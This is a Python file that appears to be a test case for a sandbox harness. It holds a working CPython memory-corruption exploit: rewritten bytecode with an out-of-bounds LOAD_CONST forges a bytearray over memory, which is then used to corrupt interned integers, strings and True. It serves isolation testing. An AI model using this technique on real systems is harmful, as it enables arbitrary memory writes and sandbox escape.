# title: Small integers and interned strings of another value
# tries: to change objects of the image that every run uses
# ends: any
# reason: a guest that rewrites its own integers may end in any way; only the next run must not notice

import opcode, struct

op = opcode.opmap
HEADER = bytes.__basicsize__ - 1

def victim():
    return 1

while True:
    consts = tuple(None for _ in range(3))
    forged = struct.pack("<IIiIIIi", 1 << 29, id(bytearray), 0x7fffffff, 0x7fffffff, 0, 0, 0) + bytes(64)
    table = struct.pack("<I", id(forged) + HEADER) * 256
    distance = (id(table) + HEADER + 512 - id(consts) - tuple.__basicsize__) // 4
    if 0 < distance < 1 << 30:
        break
    kept = [consts, forged, table, globals().get("kept")]
parts = []
for shift in (24, 16, 8):
    parts += [op["EXTENDED_ARG"], distance >> shift & 255]
victim.__code__ = victim.__code__.replace(co_code=bytes([op["RESUME"], 0] + parts + [op["LOAD_CONST"], distance & 255, op["RETURN_VALUE"], 0]), co_consts=consts)
memory = victim()
five, text, true = id(5), id("print"), id(True)
for address in (text, five):
    for i in range(8, 24):
        memory[address + i] ^= 1
memory[true + 12] = 0
print(5 + 5)
